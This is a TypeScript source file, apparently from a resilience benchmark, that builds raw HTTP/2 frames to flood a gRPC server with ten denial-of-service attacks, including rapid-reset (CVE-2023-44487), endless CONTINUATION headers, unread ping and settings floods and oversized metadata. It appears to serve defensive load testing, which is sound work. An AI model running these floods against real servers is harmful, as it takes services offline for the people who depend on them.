import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "@rhone/bench";
import { callBytes, END_HEADERS, FrameType, frameBytes, headerBytes, RawHttp2, type RawTarget } from "./raw-http2.js";

type Reply = Awaited<ReturnType<Attack["send"]>>[number];

/** What each of several connections sends again and again. */
interface Flood {
  readonly name: string;
  readonly description: string;
  readonly connections: number;
  readonly isUnread?: boolean;
  /** `turn`: 0, 1, …; null: nothing more. */
  readonly next: (turn: number) => Buffer | null;
}

const SECONDS = 2;
/** Written but not taken by the system, of one connection. */
const MOST_WAITING = 4 * 2 ** 20;
const JOIN = "/rhone.v1.Control/Join";
const FLOW = "/rhone.v1.Pipeline/Flow";

const many = (count: number, make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
/** Streams of a client have odd numbers. */
const streamOf = (turn: number, index: number, count: number): number => 2 * (turn * count + index) + 1;

const call = (stream: number, payload = callBytes(FLOW)): Buffer =>
  frameBytes({ type: FrameType.headers, flags: END_HEADERS, stream, payload });
const reset = (stream: number): Buffer => frameBytes({ type: FrameType.reset, stream, payload: Buffer.of(0, 0, 0, 8) });
const ping = frameBytes({ type: FrameType.ping, payload: Buffer.alloc(8) });
const setting = frameBytes({ type: FrameType.settings, payload: Buffer.of(0, 4, 0, 0, 255, 255) });
const FRAGMENT = 16_384;
const fragment = headerBytes([["x-filler", "x".repeat(FRAGMENT - 20)]]).subarray(0, FRAGMENT);
const manyKeys = callBytes(
  FLOW,
  Array.from({ length: 900 }, (_, index) => [`k${index}`, "v"]),
);
const hugeKey = callBytes(FLOW, [["x-filler", "x".repeat(15_000)]]);
const data = (stream: number): Buffer =>
  frameBytes({ type: FrameType.data, stream, payload: Buffer.alloc(FRAGMENT, 1) });

const FLOODS: readonly Flood[] = [
  {
    name: "rapid-reset",
    description: "calls that are reset at once (CVE-2023-44487), 256 in a write, on 50 connections",
    connections: 50,
    next: (turn) =>
      many(256, (index) => Buffer.concat([call(streamOf(turn, index, 256)), reset(streamOf(turn, index, 256))])),
  },
  {
    name: "continuations",
    description: "headers that never end, 16 KiB a frame, on 50 connections",
    connections: 50,
    next: (turn) =>
      turn === 0
        ? frameBytes({ type: FrameType.headers, stream: 1, payload: callBytes(FLOW) })
        : many(8, () => frameBytes({ type: FrameType.continuation, stream: 1, payload: fragment })),
  },
  {
    name: "pings-unread",
    description: "pings whose answers are not read, 2,000 in a write, on 50 connections",
    connections: 50,
    isUnread: true,
    next: () => many(2000, () => ping),
  },
  {
    name: "settings-unread",
    description: "settings whose answers are not read, 2,000 in a write, on 50 connections",
    connections: 50,
    isUnread: true,
    next: () => many(2000, () => setting),
  },
  {
    name: "metadata-keys",
    description: "calls with 900 keys of metadata, 32 in a write, on 20 connections",
    connections: 20,
    next: (turn) => many(32, (index) => call(streamOf(turn, index, 32), manyKeys)),
  },
  {
    name: "metadata-huge",
    description: "calls with 15 KB of metadata, 32 in a write, on 20 connections",
    connections: 20,
    next: (turn) => many(32, (index) => call(streamOf(turn, index, 32), hugeKey)),
  },
  {
    name: "streams-10000",
    description: "10,000 calls on one connection, that stay open",
    connections: 1,
    next: (turn) => (turn < 10 ? many(1000, (index) => call(streamOf(turn, index, 1000), callBytes(JOIN))) : null),
  },
  {
    name: "calls-refused",
    description: "calls that are refused, 64 in a write, on 100 connections whose answers are read",
    connections: 100,
    next: (turn) => many(64, (index) => call(streamOf(turn, index, 64))),
  },
  {
    name: "data-refused",
    description: "messages of 60 MiB behind 16 such calls on each of 20 connections",
    connections: 20,
    next: (turn) => {
      if (turn === 0) return many(16, (index) => call(streamOf(0, index, 16)));
      return many(16, (index) => data(streamOf(0, index, 16)));
    },
  },
  {
    name: "connections-in-turn",
    description: "connections that make one call each, 40 at a time",
    connections: 40,
    next: () => null,
  },
];

/** The floods of callers without a certificate or secret on the gRPC server at `target`. */
export const grpcAttacks = (of: string, target: () => RawTarget): readonly Attack[] =>
  FLOODS.map((flood) => ({
    name: `${of} ${flood.name}`,
    description: flood.description,
    send: async ({ signal }) => {
      const replies = await Promise.all(
        Array.from({ length: flood.connections }, () =>
          flood.name === "connections-in-turn" ? inTurn(target(), signal) : sendFlood(flood, target(), signal),
        ),
      );
      return replies.flat();
    },
  }));

async function sendFlood({ next, isUnread }: Flood, target: RawTarget, signal: AbortSignal): Promise<Reply[]> {
  const began = performance.now();
  const left = (): number => 1000 * SECONDS - (performance.now() - began);
  const connection = await RawHttp2.open(target, isUnread);
  for (let turn = 0; connection.isOpen && left() > 0 && !signal.aborted; turn++) {
    const bytes = next(turn);
    if (bytes === null) break;
    await connection.write(bytes);
    while (connection.socket.writableLength > MOST_WAITING && connection.isOpen && left() > 0) await sleep(20);
    await sleep(0);
  }
  while (connection.isOpen && left() > 0 && !signal.aborted) await sleep(50);
  const reply = { status: 0, code: connection.isOpen ? "held" : "closed", ms: Math.round(performance.now() - began) };
  connection.close();
  return [reply];
}

async function inTurn(target: RawTarget, signal: AbortSignal): Promise<Reply[]> {
  const replies: Reply[] = [];
  for (const began = performance.now(); performance.now() - began < 1000 * SECONDS && !signal.aborted; ) {
    const connection = await RawHttp2.open(target);
    const sentAt = performance.now();
    const answered = new Promise<string>((resolve) => {
      connection.socket.once("data", () => resolve("answered")).once("close", () => resolve("closed"));
    });
    await connection.write(call(1));
    const code = await Promise.race([answered, sleep(2000, "held")]);
    replies.push({ status: 0, code, ms: Math.round(performance.now() - sentAt) });
    connection.close();
  }
  return replies;
}
